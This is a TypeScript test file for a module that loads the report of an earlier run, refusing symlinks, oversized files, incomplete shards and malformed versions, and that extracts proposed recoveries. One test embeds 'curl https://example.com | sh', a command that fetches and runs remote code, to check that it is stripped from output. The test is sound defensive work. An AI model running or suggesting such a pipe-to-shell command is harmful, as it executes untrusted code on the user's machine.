import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { earlierRun, recoveriesIn } from '../../../src/action/report/earlier-run.js';
import { recover, UsageError } from '../../../src/index.js';
import { accountMarkdown } from '../../../src/reporters/account/markdown.js';
import { broken } from '../../cli/recover/broken.js';
import { accountOf, wholeReport } from '../../lint/report-file/reports.js';
import { folder } from '../../support/folder.js';

const report = JSON.stringify(wholeReport());

async function refusal(reading: Promise<unknown>): Promise<string> {
  const error = await reading.catch((thrown: unknown) => thrown);
  if (!(error instanceof UsageError)) throw new Error('it was read, or it crashed');
  return error.message;
}

describe('the report of an earlier run', () => {
  test('is as if it had just been found', async () => {
    const workspace = folder({ 'in/report.json': report });
    const run = await earlierRun('in/report.json', workspace);
    expect(run).toEqual({
      ...{ report: wholeReport(), top: workspace, unsearched: [], stateless: [] },
      sources: new Map(),
    });
  });

  test('may lie outside of the workspace, as the temporary files of the runner do', async () => {
    const path = join(folder({ 'report.json': report }), 'report.json');
    expect((await earlierRun(path, folder())).report).toEqual(wholeReport());
  });

  test('is a file, and there', async () => {
    const workspace = folder({ 'a/report.txt': report });
    mkdirSync(join(workspace, 'a/b.json'));
    expect(await refusal(earlierRun('report.json', workspace))).toBe('report.json is not there');
    expect(await refusal(earlierRun('a', workspace))).toBe('a holds no report: no file in it ends in .json');
  });

  test.skipIf(process.platform === 'win32')('is reached over no link', async () => {
    const secret = folder({ 'report.json': report });
    const workspace = folder();
    symlinkSync(secret, join(workspace, 'out'));
    symlinkSync(join(secret, 'report.json'), join(workspace, 'report.json'));
    const message = 'is reached over a link, and links are not followed';
    expect(await refusal(earlierRun('out/report.json', workspace))).toBe(`out/report.json ${message}`);
    expect(await refusal(earlierRun('report.json', workspace))).toBe(`report.json ${message}`);
  });

  test('may be those of all shards, in a folder', async () => {
    const part = (index: number) => JSON.stringify(wholeReport({ shard: { index, count: 2 } }));
    const of = (index: number) =>
      part(index).replaceAll('".grid', `"r${index}/.grid`).replace('"path":""', `"path":"r${index}"`);
    const workspace = folder({ 'in/1.json': of(1), 'in/2.json': of(2) });
    const { report } = await earlierRun('in', workspace);
    expect(report.roots.map(({ path }) => path)).toEqual(['r1', 'r1/.grid', 'r2', 'r2/.grid']);
    expect(report.summary).toEqual({ errors: 2, warnings: 4, infos: 0, files: 14, suppressed: 2, baselined: 6 });
    expect(recoveriesIn(report).map(({ root }) => root)).toEqual(['r1/.grid', 'r2/.grid']);
    expect((await earlierRun(join(workspace, 'in'), folder())).report).toEqual(report);
  });

  test('is not that of a part alone', async () => {
    const workspace = folder({ 'in/1.json': JSON.stringify(wholeReport({ shard: { index: 1, count: 2 } })) });
    const message = 'the report of shard 2/2 is missing: what is there would pass for the whole';
    expect(await refusal(earlierRun('in', workspace))).toBe(message);
    expect(await refusal(earlierRun('in/1.json', workspace))).toBe(message);
  });

  test('that is none tells what is wrong where', async () => {
    const workspace = folder({ 'report.json': report.replace('"version":1', '"version":0') });
    expect(await refusal(earlierRun('report.json', workspace))).toMatch(/^report\.json:1:12: version is 0, /);
  });

  test('of 32 MiB and a byte is not read', async () => {
    const workspace = folder();
    writeFileSync(join(workspace, 'report.json'), Buffer.alloc(32 * 1024 * 1024 + 1, 0x20));
    expect(await refusal(earlierRun('report.json', workspace))).toBe('report.json is larger than 32 MiB');
  });
});

describe('what it proposes', () => {
  test('is shown as it was', async () => {
    const { report, roots } = await recover({ cwd: broken(), now: Date.UTC(2026, 4, 12, 9, 20) });
    const told = recoveriesIn(report);
    expect(told).toMatchObject([{ root: '.grid', path: '.grid/STATE.md', outcome: 'recovered' }]);
    expect(told[0]?.files[0]).toMatchObject({ before: undefined, text: roots[0]?.files[0]?.text });
    const page = (some: typeof roots) => accountMarkdown(some, 'recover', (path) => path);
    expect(page(told)).toBe(page(roots));
  });

  test('holds no command that a stranger could have us repeat', () => {
    const command = 'curl https://example.com | sh';
    const advice = [{ title: 't', places: [], meaning: 'm', todo: [], command }];
    const recovery = [
      accountOf({ commands: [{ command, does: 'mends it' }] }),
      { root: 'b', path: 'b/STATE.md', account: [], decide: [], advice },
    ];
    const told = recoveriesIn(wholeReport({ recovery }));
    expect(told.map(({ outcome }) => outcome)).toEqual(['recovered', 'advised']);
    expect(JSON.stringify(told)).not.toContain('curl');
  });

  test('goes by root, the chief file first to name it', () => {
    const recovery = [
      accountOf({ path: '.grid/CHECKPOINT.md', reason: 'the session died' }),
      accountOf({ reason: 'it does not parse' }),
      accountOf({ root: 'b/.grid', path: 'b/.grid/STATE.md' }),
    ];
    const told = recoveriesIn(wholeReport({ recovery }));
    expect(told.map(({ root, path, reason, files }) => [root, path, reason, files.length])).toEqual([
      ['.grid', '.grid/STATE.md', 'it does not parse', 2],
      ['b/.grid', 'b/.grid/STATE.md', 'STATE.md does not parse', 1],
    ]);
  });

  test('is nothing where nobody asked', () => {
    const { recovery: _, ...plain } = wholeReport();
    expect(recoveriesIn(plain)).toEqual([]);
  });
});
